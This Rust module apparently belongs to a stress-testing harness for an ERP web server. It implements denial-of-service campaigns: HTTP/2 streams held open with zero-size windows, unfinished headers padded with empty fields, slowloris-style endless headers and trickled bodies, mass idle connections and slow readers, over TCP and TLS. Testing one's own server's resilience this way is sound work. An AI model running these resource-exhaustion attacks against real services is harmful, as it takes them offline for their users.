//! Connections that occupy memory: closed flow-control windows, unfinished request headers, idle connections, slow
//! readers. Each over plain TCP and over TLS.

use std::io;
use std::time::Duration;

use erp_campaigns::http2::{PREFACE, get, get_with, ping, settings, unfinished_with_empty_fields};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

use super::{Attack, Holder, Load};
use crate::client::{self, Connection};

/// The index of `accept-encoding` in the static table of HTTP/2.
const ACCEPT_ENCODING: u8 = 16;

/// Requests of a slow reader: their responses are larger than the buffers of the operating system.
const REQUESTS: usize = 16;

pub(super) fn plain() -> Vec<Load> {
    let load = super::plain;
    vec![
        load("windows of 0, 40 connections", few_windows),
        load("windows of 1, 40 connections", |attack| {
            attack.hold(40, 1, |one, stream| windows(one, stream, 1));
        }),
        load("windows of 0, 2,000 of 40 addresses", many_windows),
        load("windows of 0 on large orders, 2,000 of 40", |attack| {
            attack.hold(2_000, 40, windows_on_orders);
        }),
        load("windows of 0 on large orders, 400 of one", |attack| {
            attack.hold(400, 1, windows_on_orders);
        }),
        load("700 fields of one byte, 2,000 of 10", |attack| {
            attack.hold(2_000, 10, |one, stream| fields(one, stream, 700));
        }),
        load("100 fields of one byte, 2,000 of 10", |attack| {
            attack.hold(2_000, 10, |one, stream| fields(one, stream, 100));
        }),
        load("orders without bodies, 2,000 of 40", |attack| {
            attack.hold(2_000, 40, orders_without_bodies);
        }),
        load("heads of 400 kB, 5,000 of one address", |attack| {
            attack.hold(5_000, 1, |one, stream| head(one, stream, 400_000));
        }),
        load("heads of 60 kB, 5,000 of 40 addresses", heads),
        load("idle, 10,000 of one address", |attack| {
            attack.hold(10_000, 1, idle);
        }),
        load("idle, 8,000 of 50 addresses", idle_ones),
        load("idle, 2,600 of 2,600 addresses", |attack| {
            attack.hold(2_600, 2_600, idle);
        }),
        load("a byte a second, 2,000 of 40 addresses", |attack| {
            attack.hold(2_000, 40, slow_sender);
        }),
        load("slow readers, 2,000 of 40 addresses", slow_readers),
        load("slow readers of large orders, 2,000 of 40", |attack| {
            attack.hold(2_000, 40, slow_reader_of_orders);
        }),
    ]
}

pub(super) fn encrypted() -> Vec<Load> {
    let load = super::encrypted;
    vec![
        load("TLS: windows of 0, 40 connections", few_windows),
        load("TLS: windows of 0, 2,000 of 40 addresses", many_windows),
        load("TLS: heads of 60 kB, 5,000 of 40 addresses", heads),
        load("TLS: idle, 8,000 of 50 addresses", idle_ones),
        load("TLS: slow readers, 2,000 of 40 addresses", slow_readers),
    ]
}

fn few_windows(attack: &Attack) {
    attack.hold(40, 1, |one, stream| windows(one, stream, 0));
}

fn many_windows(attack: &Attack) {
    attack.hold(2_000, 40, |one, stream| windows(one, stream, 0));
}

fn heads(attack: &Attack) {
    attack.hold(5_000, 40, |one, stream| head(one, stream, 60_000));
}

fn idle_ones(attack: &Attack) {
    attack.hold(8_000, 50, idle);
}

fn slow_readers(attack: &Attack) {
    attack.hold(2_000, 40, slow_reader);
}

/// Opens many streams for a static response, each with a window of this many bytes.
async fn windows(holder: Holder, stream: Connection, window: u32) -> io::Result<()> {
    let mut sent = PREFACE.to_vec();
    sent.extend(settings(window));
    for number in 0..128_u32 {
        let fields: &[(u8, String)] = match number % 3 {
            0 => &[],
            1 => &[(ACCEPT_ENCODING, "br".to_owned())],
            _ => &[(ACCEPT_ENCODING, "gzip".to_owned())],
        };
        sent.extend(get_with(2 * number + 1, "/docs", fields));
    }
    keep_shut(holder, stream, &sent).await
}

/// The same with generated responses, by customers with tokens.
async fn windows_on_orders(holder: Holder, stream: Connection) -> io::Result<()> {
    let mut sent = PREFACE.to_vec();
    sent.extend(settings(0));
    let path = format!("/www/auftrag/{}", holder.customer().order);
    for number in 0..32_u32 {
        sent.extend(get(2 * number + 1, &path, Some(&holder.customer().token)));
    }
    keep_shut(holder, stream, &sent).await
}

/// Opens streams whose headers have this many fields, each one byte on the wire, and never sends the bodies.
async fn fields(holder: Holder, stream: Connection, count: usize) -> io::Result<()> {
    let mut sent = PREFACE.to_vec();
    sent.extend(settings(0));
    for number in 0..32_u32 {
        sent.extend(unfinished_with_empty_fields(
            2 * number + 1,
            "/docs",
            None,
            count,
        ));
    }
    keep_shut(holder, stream, &sent).await
}

/// The same with orders, by customers with tokens: the server waits for the bodies.
async fn orders_without_bodies(holder: Holder, stream: Connection) -> io::Result<()> {
    let mut sent = PREFACE.to_vec();
    let token = Some(holder.customer().token.as_str());
    for number in 0..16_u32 {
        let stream = 2 * number + 1;
        sent.extend(unfinished_with_empty_fields(
            stream,
            "/www/auftrag",
            token,
            90,
        ));
    }
    keep_shut(holder, stream, &sent).await
}

/// Keeps the connection alive with pings.
async fn keep_shut(holder: Holder, mut stream: Connection, sent: &[u8]) -> io::Result<()> {
    stream.write_all(sent).await?;
    stream.flush().await?;
    holder.attacker.is_in_place();
    let mut buffer = [0; 4_096];
    loop {
        stream.write_all(&ping()).await?;
        stream.flush().await?;
        while let Ok(read) = timeout(Duration::from_millis(200), stream.read(&mut buffer)).await {
            if read? == 0 {
                return Ok(());
            }
        }
    }
}

/// Sends one long header field that never ends.
async fn head(holder: Holder, mut stream: Connection, bytes: usize) -> io::Result<()> {
    let begin = b"GET /health HTTP/1.1\r\nHost: h\r\nX-Large: ";
    stream.write_all(begin).await?;
    let part = [b'x'; 10_000];
    for _ in 0..bytes / part.len() {
        stream.write_all(&part).await?;
    }
    stream.flush().await?;
    holder.attacker.is_in_place();
    until_closed(stream).await
}

/// Sends a byte a second: odd addresses a head, even ones the body of an order.
async fn slow_sender(holder: Holder, mut stream: Connection) -> io::Result<()> {
    let begin = match holder.address.octets()[3] % 2 {
        1 => "GET /www/artikel HTTP/1.1\r\nHost: h\r\nX-Slow: ".to_owned(),
        _ => format!(
            "POST /www/auftrag HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\
             Authorization: Bearer {}\r\nContent-Length: 100000\r\n\r\n{{",
            holder.target.token
        ),
    };
    stream.write_all(begin.as_bytes()).await?;
    holder.attacker.is_in_place();
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b"x").await?;
        stream.flush().await?;
    }
}

async fn idle(holder: Holder, mut stream: Connection) -> io::Result<()> {
    let request = client::get("/health", None);
    let response = client::send_request(&mut stream, request.as_bytes()).await?;
    holder.attacker.counts.count_response(response.status);
    holder.attacker.is_in_place();
    until_closed(stream).await
}

async fn until_closed(mut stream: Connection) -> io::Result<()> {
    let mut buffer = [0; 1_024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn slow_reader(holder: Holder, stream: Connection) -> io::Result<()> {
    let request = client::get("/docs", None);
    read_slowly(holder, stream, &request).await
}

async fn slow_reader_of_orders(holder: Holder, stream: Connection) -> io::Result<()> {
    let path = format!("/www/auftrag/{}", holder.customer().order);
    let request = client::get(&path, Some(&holder.customer().token));
    read_slowly(holder, stream, &request).await
}

/// Reads two kilobytes of large responses per second, which is just fast enough not to be disconnected.
async fn read_slowly(holder: Holder, mut stream: Connection, request: &str) -> io::Result<()> {
    stream
        .write_all(request.repeat(REQUESTS).as_bytes())
        .await?;
    stream.flush().await?;
    holder.attacker.is_in_place();
    let mut buffer = [0; 512];
    while stream.read(&mut buffer).await? > 0 {
        sleep(Duration::from_millis(250)).await;
    }
    Ok(())
}
